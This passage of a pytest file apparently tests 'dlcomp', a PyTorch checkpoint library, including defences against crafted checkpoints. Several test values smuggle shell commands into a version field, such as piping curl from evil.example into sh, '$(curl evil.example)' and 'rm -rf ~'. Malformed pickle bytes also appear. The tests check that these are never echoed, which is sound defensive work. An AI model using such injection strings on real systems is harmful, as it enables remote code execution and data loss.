        ("0..weight", "'0..weight'"),
        ("0.*", "'0.*'"),
    ],
)
def test_prefixes_that_are_not_dotted_names_are_refused(prefixes, got):
    old, new = nn.Sequential(nn.Linear(2, 2)), nn.Sequential(nn.Linear(2, 2))
    before = {k: v.clone() for k, v in new.state_dict().items()}
    with pytest.raises(
        ValueError, match=r"^load_matching: prefixes must be"
    ) as refused:
        load_matching(new, old.state_dict(), prefixes=prefixes)
    message = str(refused.value)
    assert "dotted names such as '0', '0.' or 'encoder.layer1'" in message
    assert message.endswith(f", got {got}"), message
    assert not isinstance(refused.value, CheckpointError)  # not "shares no name"
    assert all(torch.equal(v, new.state_dict()[k]) for k, v in before.items())


@pytest.mark.parametrize("prefixes", ["0", "0.", ["0.weight"], ("0", "0.bias")])
def test_dotted_prefixes_are_taken(prefixes):
    old, new = nn.Sequential(nn.Linear(2, 2)), nn.Sequential(nn.Linear(2, 2))
    assert load_matching(new, old.state_dict(), prefixes=prefixes).loaded
    assert torch.equal(new[0].weight, old[0].weight)


def test_a_newer_format_version_is_refused_naming_the_dlcomp_that_wrote_it(tmp_path):
    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp="7.0.0")
    with pytest.raises(CheckpointError) as refused:
        load_checkpoint(path, MLP())
    assert str(refused.value) == (
        f"{path} has checkpoint format version 99, written by dlcomp 7.0.0; this "
        "dlcomp reads versions 1 to 3. Upgrade dlcomp to read it: pip install "
        "--upgrade dlcomp"
    )


@pytest.mark.parametrize(
    "written_by",
    [
        None,  # no dlcomp field: the advice was pip install 'dlcomp>=newer'
        "1.0'; curl evil.example | sh; echo '",  # was pasted into the command
        "$(curl evil.example)",
        "7.0.0\nrm -rf ~",
        "7.0.0 ",
        "\u0667.0",  # an Arabic-Indic digit: \d without re.ASCII takes it
        "1" * 40,
        7,
        ["7.0"],
    ],
)
def test_the_version_advice_quotes_nothing_from_the_file(tmp_path, written_by):
    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp=written_by)
    with pytest.raises(CheckpointError) as refused:
        load_checkpoint(path, MLP())
    message = str(refused.value)
    assert message.endswith(
        "written by a newer dlcomp; this dlcomp reads versions 1 to 3. Upgrade "
        "dlcomp to read it: pip install --upgrade dlcomp"
    ), message
    assert "newer'" not in message
    assert "evil" not in message
    assert "rm -rf" not in message


@pytest.mark.parametrize("written_by", ["2.0", "2.0.1", "10.4.0.1", "3.0rc1", "3.1a2"])
def test_plain_version_numbers_are_named(tmp_path, written_by):
    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp=written_by)
    with pytest.raises(CheckpointError, match=f"written by dlcomp {written_by};"):
        load_checkpoint(path, MLP())


SHELL = "1.0'; curl evil.example | sh; echo '"


def test_a_newer_format_version_is_refused_with_advice_that_quotes_nothing(tmp_path):
    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp=SHELL)
    with pytest.raises(
        CheckpointError, match=r"newer dlcomp.*pip install --upgrade dlcomp"
    ) as caught:
        load_checkpoint(path, MLP())
    assert "curl" not in str(caught.value)
    no_field = fake_checkpoint(tmp_path / "d.pt", version=5, dlcomp=None)
    with pytest.raises(CheckpointError, match="pip install --upgrade dlcomp") as caught:
        load_checkpoint(no_field, MLP())
    assert "newer'" not in str(caught.value)


def test_a_newer_version_3_file_is_refused_with_the_same_advice(tmp_path):
    path = save_checkpoint(tmp_path / "c.pt", MLP(), step=1)
    header, manifest, data = split(path)
    header["__metadata__"]["version"] = "4"
    manifest["dlcomp"] = SHELL
    join(path, header, manifest, data)
    with pytest.raises(CheckpointError, match="pip install --upgrade dlcomp") as caught:
        load_checkpoint(path, MLP())
    assert "curl" not in str(caught.value)


def test_a_version_1_file_still_loads(tmp_path):
    path = fake_checkpoint(
        tmp_path / "c.pt", version=1, optimizer_class=None, dlcomp=None
    )
    model = MLP()
    assert load_checkpoint(path, model, torch.optim.SGD(model.parameters())).step == 1


@pytest.mark.parametrize("length", [200, 242, 250, 255])
def test_long_file_names_save(tmp_path, length):
    path = tmp_path / ("c" * (length - 3) + ".pt")
    save_checkpoint(path, nn.Linear(2, 2), step=1)
    assert load_checkpoint(path, nn.Linear(2, 2)).step == 1


def test_read_checkpoint_gives_the_states_without_loading(tmp_path):
    model = MLP()
    optimizer = trained(model)
    save_checkpoint(tmp_path / "c.pt", model, optimizer, step=4, note="x")
    checkpoint = read_checkpoint(tmp_path / "c.pt")
    assert checkpoint.step == 4
    assert checkpoint.optimizer_class == "torch.optim.adam.Adam"
    assert same(checkpoint.model, snapshot(model))
    assert checkpoint.extra == {"note": "x"}
    assert checkpoint.info.step == 4


# --- a second adversarial review: each test failed before its fix ---------------


def with_pickle(path, data_pkl):
    """Replace the data.pkl record of the torch.save file at ``path``."""
    import zipfile

    with zipfile.ZipFile(path) as archive:
        records = {i.filename: archive.read(i) for i in archive.infolist()}
    name = next(n for n in records if n.endswith("/data.pkl"))
    records[name] = data_pkl
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for record, content in records.items():
            archive.writestr(record, content)
    return path


# Pickles that torch's safe unpickler accepts opcode by opcode, but whose
# objects make its code fail with an error other than UnpicklingError.
ODD_PICKLES = {
    # OrderedDict(5): TypeError: 'int' object is not iterable
    "OrderedDict(5)": b"\x80\x02ccollections\nOrderedDict\nK\x05\x85R.",
    # a persistent id that is not a tuple: AssertionError in torch's loader
    "int persistent id": b"\x80\x02K\x05Q.",
    # a persistent id tuple of the wrong length: IndexError/ValueError
    "short persistent id": b"\x80\x02X\x07\x00\x00\x00storage\x85Q.",
}


@pytest.mark.parametrize("payload", list(ODD_PICKLES), ids=list(ODD_PICKLES))
def test_restore_falls_back_past_a_pickle_torch_chokes_on(tmp_path, payload):
    manager = CheckpointManager(tmp_path, keep=2)
    manager.save(1, MLP())
    write_legacy(manager.path_for(2), MLP(), step=2)  # a version-2 file: torch.save
    with_pickle(manager.latest(), ODD_PICKLES[payload])
    with pytest.raises(CheckpointError, match="not a readable checkpoint"):
        load_checkpoint(manager.latest(), MLP())
    with pytest.warns(RuntimeWarning, match="skipping checkpoint step-000000002"):
        assert manager.restore(MLP()).step == 1


def test_an_unreadable_newest_checkpoint_is_skipped(tmp_path, monkeypatch):
    manager = CheckpointManager(tmp_path)
    manager.save(1, MLP())
    manager.save(2, MLP())
    real_open = os.open

    def refuse(file, *args, **kwargs):
        if str(file).endswith("step-000000002.pt"):
            raise PermissionError(errno.EACCES, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr("os.open", refuse)
    with pytest.warns(RuntimeWarning, match="permission denied"):
        assert manager.restore(MLP()).step == 1


def test_a_numpy_step_is_saved_as_an_int(tmp_path):
    np = pytest.importorskip("numpy")
    manager = CheckpointManager(tmp_path)
    manager.save(np.int64(5), MLP())
    assert manager.restore(MLP()).step == 5


@pytest.mark.parametrize("where", ["cuda0", "gpu", "bogus"])
def test_a_map_location_that_is_not_a_device_is_the_callers_mistake(tmp_path, where):
    save_checkpoint(tmp_path / "c.pt", MLP(), step=1)
    save_safetensors(tmp_path / "c.safetensors", MLP())
    with pytest.raises(ValueError, match=f"map_location='{where}' is not a device"):
        load_checkpoint(tmp_path / "c.pt", MLP(), map_location=where)
    with pytest.raises(ValueError, match=f"map_location='{where}' is not a device"):
        load_safetensors(tmp_path / "c.safetensors", MLP(), map_location=where)


def test_load_safetensors_refuses_a_fifo_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "w.safetensors")
    with pytest.raises(CheckpointError, match="not a regular file"):
        load_safetensors(tmp_path / "w.safetensors", MLP())


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("params", [[0], [1]], "param_groups should list parameter numbers"),
        ("lr", "fast", "group 0 lr: 'fast' in the file"),
        ("momentum_buffer", "x", "momentum_buffer: a str in the file"),
    ],
)
def test_crafted_optimizer_fields_are_refused(tmp_path, field, value, message):
    path, data = sgd_momentum_checkpoint(tmp_path / "c.pt")
    if field == "momentum_buffer":
        data["optimizer"]["state"][0][field] = value
    else:
        data["optimizer"]["param_groups"][0][field] = value
    torch.save(data, path)
    target = MLP()
    target_optimizer = torch.optim.SGD(target.parameters(), lr=0.1, momentum=0.9)
    target(torch.rand(2, 20)).sum().backward()
    target_optimizer.step()
    before = snapshot(target)
    with pytest.raises(CheckpointError, match=message):
        load_checkpoint(path, target, target_optimizer)
    assert same(snapshot(target), before)


class WithExtraState(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(2, 2)
        self.note = {"calls": 0}

    def get_extra_state(self):
        return self.note

    def set_extra_state(self, state):
        self.note = state


def test_a_module_with_extra_state_saves_and_loads(tmp_path):
    model = WithExtraState()
    model.note = {"calls": 7}
    save_checkpoint(tmp_path / "c.pt", model, step=1)
    target = WithExtraState()
    load_checkpoint(tmp_path / "c.pt", target)
    assert target.note == {"calls": 7}


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (lambda p: load_checkpoint(p, "x"), "model must be an nn.Module, got str"),
        (lambda p: load_checkpoint(p, MLP(), "x"), "Optimizer or None"),
        (lambda p: load_matching("x", {}), "load_matching: model must be an nn"),
        (lambda p: load_matching(MLP(), [1, 2]), "takes a state dict"),
        (lambda p: load_matching(MLP(), {0: torch.ones(1)}, "0"), "takes a state dict"),
    ],
    ids=["model", "optimizer", "matching model", "list", "int keys"],
)
def test_wrong_argument_types_are_type_errors(tmp_path, call, message):
    save_checkpoint(tmp_path / "c.pt", MLP(), step=1)
    with pytest.raises(TypeError, match=message):
        call(tmp_path / "c.pt")


def test_loading_into_a_model_on_the_meta_device_is_refused(tmp_path):
    save_checkpoint(tmp_path / "c.pt", MLP(), step=1)
    with torch.device("meta"):
        ghost = MLP()
    with pytest.raises(ValueError, match=r"meta device.*to_empty"):
        load_checkpoint(tmp_path / "c.pt", ghost)
    with pytest.raises(ValueError, match="meta device"):
        load_matching(ghost, MLP().state_dict())


def test_a_failed_load_into_a_lazy_model_leaves_it_lazy(tmp_path):
    source = nn.Sequential(nn.Linear(3, 4), nn.Linear(4, 2))
    path = save_checkpoint(tmp_path / "c.pt", source, step=1)
    lazy = nn.Sequential(nn.LazyLinear(4), nn.LazyLinear(2))

    def fails(*args, **kwargs):  # the copy fails after layer 0 was initialized
        raise RuntimeError("the copy failed part way")

    lazy[1]._register_load_state_dict_pre_hook(fails)
    with pytest.raises(CheckpointError, match="the copy failed part way"):
        load_checkpoint(path, lazy)
    assert isinstance(lazy[0].weight, nn.parameter.UninitializedParameter)


def test_an_optimizer_of_a_lazy_model_is_refused_with_advice(tmp_path):
    path = save_checkpoint(tmp_path / "c.pt", nn.Sequential(nn.Linear(3, 4)), step=1)
    lazy = nn.Sequential(nn.LazyLinear(4))
    with pytest.raises(ValueError, match="sample batch, build the optimizer"):
        load_checkpoint(path, lazy, torch.optim.SGD(lazy.parameters()))


# --- resuming is the same run, or an error -------------------------------------


def test_resuming_with_another_seed_is_refused(tmp_path):
    resumable_training(tmp_path, steps=4, save_every=2, seed=0)
    message = (
        r"^resumable_training: the checkpoints in .* were written with seed 0, "
        r"not 5: resume with seed=0, or train in another folder$"
    )
    with pytest.raises(ValueError, match=message):
        resumable_training(tmp_path, steps=6, save_every=2, seed=5)
    # the folder is as it was: the right seed resumes it
    run = resumable_training(tmp_path, steps=6, save_every=2, seed=0)
    assert run.resumed_from == 4


def test_a_checkpoint_past_the_steps_asked_for_is_refused(tmp_path):
    resumable_training(tmp_path, steps=4, save_every=2)
    message = r"^resumable_training: .* is at step 4, past steps=2:"
    with pytest.raises(ValueError, match=message):
        resumable_training(tmp_path, steps=2, save_every=2)


def test_each_seed_and_step_draw_their_own_batch(tmp_path):
    """Two (seed, step) pairs never share a batch; the seeds torch keeps bound it."""
    import dlcomp.serialization as serialization

    X, y = torch.arange(512.0).reshape(512, 1), torch.zeros(512, 1)
    # with seed * 1_000_003 + step these collided: (0, 1_000_003) and (1, 0)
    first = serialization._batch(0, 1_000_003, X, y)[0]
    second = serialization._batch(1, 0, X, y)[0]
    assert not torch.equal(first, second)
    with pytest.raises(ValueError, match=r"seed must be an int < 2\*\*12, got 4096"):
        resumable_training(tmp_path, steps=1, seed=2**12)
    with pytest.raises(ValueError, match=r"steps must be an int <= 2\*\*20"):
        resumable_training(tmp_path, steps=2**20 + 1)


LOAD_PEAK = """
import sys, torch
from torch import nn
import dlcomp

def peak():
    with open("/proc/self/status") as status:
        return int(next(l for l in status if l.startswith("VmHWM:")).split()[1]) * 1024

torch.manual_seed(0)
model = nn.Linear(4096, 4096)  # 64 MiB of weights
if sys.argv[2] == "save":
    dlcomp.save_checkpoint(sys.argv[1], model, step=1)
    raise SystemExit(0)
weight = model.weight
before = peak()
dlcomp.load_checkpoint(sys.argv[1], model)
print(peak() - before, model.weight is weight)
"""


def test_load_checkpoint_takes_one_copy_of_the_weights_not_two(tmp_path):
    """D19: the rollback kept a copy of the model (2x the weights at peak)."""
    import subprocess
    import sys

    path = str(tmp_path / "c.pt")
    for action in ("save", "load"):
        done = subprocess.run(
            [sys.executable, "-c", LOAD_PEAK, path, action],
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stderr[-3000:]
    grew, same = done.stdout.split()
    weights = 4096 * 4097 * 4
    assert int(grew) < 1.5 * weights, (int(grew) / weights, done.stderr[-3000:])
    assert same == "True"  # the parameter kept its identity: an optimizer holds it


def test_a_model_with_its_own_loading_code_still_loads_through_load_state_dict(
    tmp_path,
):
    class Counting(nn.Linear):
        loads = 0

        def _load_from_state_dict(self, *args, **kwargs):
            type(self).loads += 1
            super()._load_from_state_dict(*args, **kwargs)

    source = Counting(3, 2)
    save_checkpoint(tmp_path / "c.pt", source, step=1)
    target = Counting(3, 2)
    load_checkpoint(tmp_path / "c.pt", target)
    assert Counting.loads == 1
    assert torch.equal(target.weight, source.weight)
